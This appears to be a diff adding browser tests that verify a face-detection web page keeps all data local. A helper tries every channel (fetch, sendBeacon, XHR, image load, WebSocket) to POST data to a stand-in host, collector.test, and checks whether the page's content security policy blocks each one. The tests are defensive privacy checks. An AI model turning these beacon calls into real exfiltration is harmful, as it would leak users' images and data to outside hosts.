@@ -1,0 +1,120 @@
+// Nothing leaves the page: every request of a session is one of the page's own files, and a planted one is caught.
+
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import { choose, fixture, startBrowser, statusMatching } from "./page.mjs";
+
+const { open, requests, strangers, url } = await startBrowser([
+  "--use-fake-ui-for-media-stream",
+  "--use-fake-device-for-media-stream",
+]);
+
+const BEACON = "http://collector.test/beacon";
+
+/** Every way a script has to reach another host without leaving the page. */
+async function plantBeacons(scope) {
+  await scope.evaluate(async (address) => {
+    const attempts = [fetch(address, { method: "POST", body: "pixels", mode: "no-cors" })];
+    if (globalThis.navigator.sendBeacon) navigator.sendBeacon(address, "pixels");
+    if (globalThis.XMLHttpRequest) {
+      attempts.push(
+        new Promise((resolve) => {
+          const request = new XMLHttpRequest();
+          request.onloadend = resolve;
+          request.open("POST", address);
+          request.send("pixels");
+        }),
+      );
+    }
+    if (globalThis.Image) {
+      attempts.push(
+        new Promise((resolve) => {
+          const image = new Image();
+          image.onload = resolve;
+          image.onerror = resolve;
+          image.src = address;
+        }),
+      );
+    }
+    attempts.push(
+      new Promise((resolve) => {
+        try {
+          const socket = new WebSocket(address.replace("http", "ws"));
+          socket.onclose = resolve;
+          socket.onerror = resolve;
+        } catch {
+          resolve();
+        }
+      }),
+    );
+    await Promise.allSettled(attempts);
+  }, BEACON);
+}
+
+async function useEverything(page) {
+  await choose(page, fixture("astronaut.png"));
+  await statusMatching(page, /1 face/);
+  await choose(page, fixture("grace_hopper.png"));
+  await statusMatching(page, /1 face/);
+  await page.getByRole("button", { name: "Use the camera" }).click();
+  await statusMatching(page, /No face in view/);
+  await page.getByTestId("camera-stop").click();
+  await statusMatching(page, /camera is off/);
+}
+
+test("a session asks for the page's own files and for nothing else", async () => {
+  requests.length = 0;
+  strangers.length = 0;
+  const page = await open();
+  await useEverything(page);
+  assert.ok(requests.length > 5, "the log is alive");
+  const odd = requests.filter(({ method, path, status }) => method !== "GET" || status !== 200 || path.includes("?"));
+  assert.deepEqual(odd, []);
+  assert.deepEqual(strangers, []);
+});
+
+test("beacons planted in the page and in its worker are blocked by the page's policy", async () => {
+  const page = await open();
+  await useEverything(page);
+  strangers.length = 0;
+  assert.equal(page.workers().length, 1);
+  await plantBeacons(page);
+  await plantBeacons(page.workers()[0]);
+  assert.deepEqual(strangers, []);
+});
+
+test("the same beacons are caught where no policy stops them: the check can fail", async () => {
+  const page = await open({ bypassCSP: true });
+  await statusMatching(page, /Ready/);
+  strangers.length = 0;
+  await plantBeacons(page);
+  assert.ok(
+    strangers.some((line) => line.startsWith("POST /beacon")),
+    `heard ${strangers}`,
+  );
+});
+
+test("a worker that is not made by the page's blob is not bound: why the page makes it so", async () => {
+  const page = await open({
+    prepare: (unopened) =>
+      unopened.context().route(
+        (address) => address.href === url,
+        async (route) => {
+          const response = await route.fetch();
+          const body = (await response.text()).replace("require-trusted-types-for 'script'; ", "");
+          await route.fulfill({ response, body });
+        },
+      ),
+  });
+  await statusMatching(page, /Ready/);
+  strangers.length = 0;
+  const loose = page.waitForEvent("worker");
+  await page.evaluate(() => {
+    globalThis.loose = new Worker("lib/worker.js", { type: "module" });
+  });
+  await plantBeacons(await loose);
+  assert.ok(
+    strangers.some((line) => line.startsWith("POST /beacon")),
+    `heard ${strangers}`,
+  );
+});
